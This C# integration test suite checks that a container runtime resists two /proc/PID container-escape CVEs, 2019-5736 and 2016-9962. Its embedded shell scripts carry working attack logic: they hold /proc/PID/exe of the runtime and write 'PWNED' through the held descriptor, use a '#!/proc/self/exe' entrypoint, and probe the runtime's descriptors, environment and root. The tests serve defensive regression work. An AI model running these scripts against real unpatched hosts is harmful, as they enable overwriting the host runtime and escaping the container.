using Skiff.Integration.Tests.Infrastructure;

namespace Skiff.Integration.Tests.Tests.Security;

/// <summary>
/// A process of the container reaching the runtime through /proc/PID while the runtime is still
/// in the container: the runtime's binary through /proc/PID/exe (CVE-2019-5736) and the joining
/// process's descriptors, environment and root (CVE-2016-9962). The attacker is a container whose
/// PID namespace a second container joins, as in a pod: the second container's init sits in the
/// attacker's namespace for as long as it waits for `start`.
/// </summary>
[Collection(ContainerCollection.Name)]
public sealed class ProcPidAccessTests(Suite suite)
{
    /// <summary>
    /// The original exploit: the victim's init is the runtime while it waits for start, and its
    /// entrypoint is `#!/proc/self/exe`. The attacker opens /proc/PID/exe of every process that is
    /// not one of its own programs, holds it, and writes through /proc/self/fd/N as soon as the
    /// binary stops running (before that the kernel refuses with ETXTBSY).
    /// </summary>
    [Fact]
    public void Cve_2019_5736_container_cannot_overwrite_the_runtime_binary_through_proc_pid_exe() =>
        OverwriteThroughProcPidExe(immutable: false, (_, _) => { });

    /// <summary>
    /// The same attack against an installed skiff-runc, which is immutable: the runtime is not
    /// re-executed (the waiting init's executable is the binary itself), and the binary still
    /// cannot be written from the container.
    /// </summary>
    [SkiffOnlyFact("the immutable fast path is skiff-runc's")]
    public void Cve_2019_5736_an_immutable_runtime_binary_runs_as_is_and_cannot_be_overwritten() =>
        OverwriteThroughProcPidExe(immutable: true, (runtime, victim) =>
            Assert.Equal(runtime.BinaryPath, new FileInfo($"/proc/{victim.PidFromFile()}/exe").LinkTarget));

    /// <param name="whileCreated">Checked while the victim's init waits for start (still the runtime).</param>
    private void OverwriteThroughProcPidExe(bool immutable, Action<RuntimeCopy, TestContainer> whileCreated)
    {
        using var attacker = new TestContainer(suite);
        attacker.Share().Shell(HoldAndWriteEveryRuntimeExe);
        attacker.Create().AssertSuccess();
        attacker.Start().AssertSuccess();
        Wait.ForFile(attacker.SharedFile("ready"));

        using var victim = new TestContainer(suite);
        var runtime = new RuntimeCopy(victim, immutable);
        Attack.JoinNamespace(victim, "pid", attacker.PidFromFile(), "pid");
        // The classic payload: an entrypoint whose interpreter is /proc/self/exe, the runtime's own
        // binary for as long as the runtime execs it. (This kernel refuses that exec with ENOENT once
        // the old root is detached; the test holds either way.)
        Attack.WriteExecutable(Path.Combine(victim.Rootfs, "evil"), "#!/proc/self/exe\n");
        victim.Process.Args = ["/evil"];
        victim.WriteConfig();

        runtime.Invoke(victim, "create", "--bundle", victim.BundleDir, "--pid-file", victim.PidFile, victim.Id).AssertSuccess();
        int victimInAttackersNamespace = NsPid(victim.PidFromFile());
        whileCreated(runtime, victim);
        Thread.Sleep(1500); // the attacker scans while the init waits for start, still the runtime
        runtime.Invoke(victim, "start", victim.Id);
        victim.Kill("KILL");
        victim.WaitForStatus("stopped");
        Thread.Sleep(1500); // the binary no longer runs: a write through a held descriptor would succeed now
        File.WriteAllText(attacker.SharedFile("stop"), "");
        Wait.Until(() => attacker.State().Status == "stopped", "the attacker to stop", TimeSpan.FromSeconds(10));

        var report = string.Join('\n', Directory.EnumerateFiles(attacker.ShareDir).Order()
            .Select(f => $"{Path.GetFileName(f)}: {File.ReadAllText(f).Trim()}"));
        Assert.True(runtime.Unchanged, $"the runtime's binary was modified from inside the container\n{report}");
        Assert.DoesNotContain(Directory.EnumerateFiles(attacker.ShareDir), f => Path.GetFileName(f).StartsWith("wrote-"));
        // Positive control: the attacker reached the waiting init, and either held its executable or was refused it.
        Assert.True(File.Exists(attacker.SharedFile($"held-{victimInAttackersNamespace}")) || File.Exists(attacker.SharedFile($"refused-{victimInAttackersNamespace}")),
            $"the attacker never reached the victim's init (pid {victimInAttackersNamespace} in its namespace): the attack did not run\n{report}");
    }

    /// <summary>
    /// The joining process must not be open to the container while it is still the runtime (before
    /// it execs the container's program): not its descriptors (the runtime's handles on the host:
    /// the fd numbers may be listed, as runc's init's can, but none may be opened or read),
    /// its environment, its root or cwd, its executable. The victim's init waits for `start` with
    /// the container's own capabilities, so only the runtime's protection stands in the way.
    /// </summary>
    [Fact]
    public void Cve_2016_9962_container_cannot_reach_the_joining_process_through_proc_pid()
    {
        using var attacker = new TestContainer(suite);
        attacker.Share().Shell(
            """
            echo up > /share/ready
            while [ ! -e /share/go ]; do sleep 0.02; done
            for d in /proc/[0-9]*; do
              p=${d#/proc/}
              [ "$p" = $$ ] && continue
              {
                for f in $(ls $d/fd 2>/dev/null); do t=$(readlink $d/fd/$f 2>/dev/null) && echo "fd $f: $t"; done
                head -c 64 $d/environ >/dev/null 2>&1 && echo "environ readable"
                ls $d/root/ >/dev/null 2>&1 && echo "root listable"
                readlink $d/cwd >/dev/null 2>&1 && echo "cwd readable"
                readlink $d/exe >/dev/null 2>&1 && echo "exe readable: $(readlink $d/exe)"
                echo end
              } > /share/probe-$p
            done
            echo done > /share/done
            exec sleep 600
            """);
        attacker.Create().AssertSuccess();
        attacker.Start().AssertSuccess();
        Wait.ForFile(attacker.SharedFile("ready"));

        using var victim = new TestContainer(suite);
        Attack.JoinNamespace(victim, "pid", attacker.PidFromFile(), "pid");
        victim.Shell("true");
        victim.Create().AssertSuccess();
        var victimPid = victim.PidFromFile();
        var pidSeenByAttacker = NsPid(victimPid);

        File.WriteAllText(attacker.SharedFile("go"), "");
        Wait.ForFile(attacker.SharedFile("done"));

        Assert.Equal("created", victim.State().Status); // the probe ran while the init was still the runtime
        var probe = File.ReadAllText(attacker.SharedFile($"probe-{pidSeenByAttacker}"));
        Assert.True(probe.Trim() == "end", $"the container reached the runtime's joining process {pidSeenByAttacker} through /proc:\n{probe}");
    }

    /// <summary>
    /// The same attack on `exec`: the joining process sits in the container's PID namespace from
    /// its fork to its execve, as the runtime; a `#!/proc/self/exe` program is exec'd too. The
    /// window is short, so the attacker scans while a series of execs runs.
    /// </summary>
    [Fact]
    public void Cve_2019_5736_exec_cannot_be_used_to_overwrite_the_runtime_binary()
    {
        using var c = new TestContainer(suite);
        var runtime = new RuntimeCopy(c);
        Attack.WriteExecutable(Path.Combine(c.Rootfs, "evil"), "#!/proc/self/exe\n");
        c.Share().Shell(HoldAndWriteEveryRuntimeExe);
        c.Create().AssertSuccess();
        c.Start().AssertSuccess();
        Wait.ForFile(c.SharedFile("ready"));

        // The window is a few milliseconds: on a loaded machine the scanner may need many execs to
        // land in one. At least 15 pairs, and on until the attacker has reached one (bounded).
        bool Reached() => Directory.EnumerateFiles(c.ShareDir).Any(f => Path.GetFileName(f).StartsWith("held-") || Path.GetFileName(f).StartsWith("refused-"));
        for (var i = 0; i < 15 || (i < 300 && !Reached()); i++)
        {
            runtime.Invoke(c, "exec", c.Id, "/evil");
            runtime.Invoke(c, "exec", c.Id, "sleep", "0.05");
        }
        Thread.Sleep(1500); // no exec runs the binary any more: a held descriptor could be written now
        File.WriteAllText(c.SharedFile("stop"), "");
        Wait.Until(() => c.State().Status == "stopped", "the attacker to stop", TimeSpan.FromSeconds(10));

        var report = string.Join('\n', Directory.EnumerateFiles(c.ShareDir).Order()
            .Select(f => $"{Path.GetFileName(f)}: {File.ReadAllText(f).Trim()}"));
        Assert.True(runtime.Unchanged, $"the runtime's binary was modified from inside the container\n{report}");
        Assert.DoesNotContain(Directory.EnumerateFiles(c.ShareDir), f => Path.GetFileName(f).StartsWith("wrote-"));
        // Positive control: the attacker's own programs are neither held nor refused; only the runtime's processes are.
        Assert.True(Reached(), $"the attacker never reached an exec while it was the runtime: the attack did not run\n{report}");
    }

    /// <summary>
    /// CVE-2016-9962 on `exec`: the container's init watches /proc for new processes and tries to
    /// open the descriptors, environment, root and executable of each one while it is still the
    /// runtime (its executable is not one of the container's programs).
    /// </summary>
    [Fact]
    public void Cve_2016_9962_exec_process_is_closed_to_the_container_until_it_execs()
    {
        using var c = new TestContainer(suite);
        c.Share().Shell(
            """
            cd /proc
            echo up > /share/ready
            while [ ! -e /share/stop ]; do
              for p in [0-9]*; do
                l=$(readlink /proc/$p/exe 2>/dev/null) || continue
                case "$l" in /bin/*|/usr/*|/sbin/*|"") continue;; esac
                { echo "exe: $l"
                  for f in $(ls /proc/$p/fd 2>/dev/null); do t=$(readlink /proc/$p/fd/$f 2>/dev/null) && echo "fd $f: $t"; done
                  head -c 64 /proc/$p/environ >/dev/null 2>&1 && echo "environ readable"
                  ls /proc/$p/root/ >/dev/null 2>&1 && echo "root listable"
                } > /share/reached-$p
              done
            done
            """);
        c.Create().AssertSuccess();
        c.Start().AssertSuccess();
        Wait.ForFile(c.SharedFile("ready"));

        for (var i = 0; i < 30; i++)
            c.Cli.Invoke("exec", c.Id, "true").AssertSuccess();
        File.WriteAllText(c.SharedFile("stop"), "");
        Wait.Until(() => c.State().Status == "stopped", "the attacker to stop", TimeSpan.FromSeconds(10));

        var reached = Directory.EnumerateFiles(c.ShareDir, "reached-*").Select(f => $"{Path.GetFileName(f)}:\n{File.ReadAllText(f)}").ToList();
        Assert.True(reached.Count == 0, $"the container reached an exec'ing runtime process:\n{string.Join('\n', reached)}");
    }

    /// <summary>
    /// CVE-2016-9962 without a shared PID namespace: a process exec'd into a container that is
    /// created but not started finds the init (pid 1) still the runtime, waiting for `start` with
    /// the exec fifo, the sync socket and the state memfd open.
    /// </summary>
    [Fact]
    public void Cve_2016_9962_process_exec_into_a_created_container_cannot_reach_its_waiting_init()
    {
        using var c = new TestContainer(suite);
        c.Shell("true");
        c.Create().AssertSuccess();

        var probe = c.Cli.Invoke("exec", c.Id, "sh", "-c",
            """
            d=/proc/1
            for f in $(ls $d/fd 2>/dev/null); do t=$(readlink $d/fd/$f 2>/dev/null) && echo "fd $f: $t"; done
            head -c 64 $d/environ >/dev/null 2>&1 && echo "environ readable"
            ls $d/root/ >/dev/null 2>&1 && echo "root listable"
            readlink $d/exe >/dev/null 2>&1 && echo "exe readable: $(readlink $d/exe)"
            echo end
            """);

        probe.AssertSuccess();
        Assert.Equal("created", c.State().Status);
        Assert.True(probe.Stdout.Trim() == "end", $"an exec'd process reached the waiting init through /proc/1:\n{probe.Stdout}");
    }

    /// <summary>
    /// Opens /proc/PID/exe of every process whose executable is not one of the container's own
    /// programs, holds it, and writes through /proc/self/fd/N until /share/stop appears.
    /// </summary>
    private const string HoldAndWriteEveryRuntimeExe =
        """
            cd /proc
            echo up > /share/ready
            while [ ! -e /share/stop ]; do
              for p in [0-9]*; do
                [ -e /share/seen-$p ] && continue
                : > /share/seen-$p
                # open first (the window may be short), then look at what was opened
                # refused: note who refused (the positive control reads it), try again next round
                # (`command`: a failed plain `exec 3<` would end the subshell before the note)
                ( command exec 3</proc/$p/exe 2>/dev/null || { c=$(cat /proc/$p/comm 2>/dev/null) && echo "$c" >> /share/refused-$p; rm -f /share/seen-$p; exit; }
                  l=$(readlink /proc/self/fd/3)
                  case "$l" in /bin/*|/usr/*|/sbin/*|"") exit;; esac
                  echo "$l" > /share/held-$p
                  while [ ! -e /share/stop ]; do
                    if { printf PWNED 1<>/proc/self/fd/3; } 2>/share/error-$p; then echo "$l" > /share/wrote-$p; exit; fi
                    sleep 0.05
                  done ) 2>/dev/null &
              done
              sleep 0.01
            done
            wait
            """;

    /// <summary>The pid a process has in its innermost PID namespace (the last NSpid field).</summary>
    internal static int NsPid(int hostPid) =>
        int.Parse(File.ReadAllLines($"/proc/{hostPid}/status").First(l => l.StartsWith("NSpid:")).Split('\t', StringSplitOptions.RemoveEmptyEntries)[^1]);
}
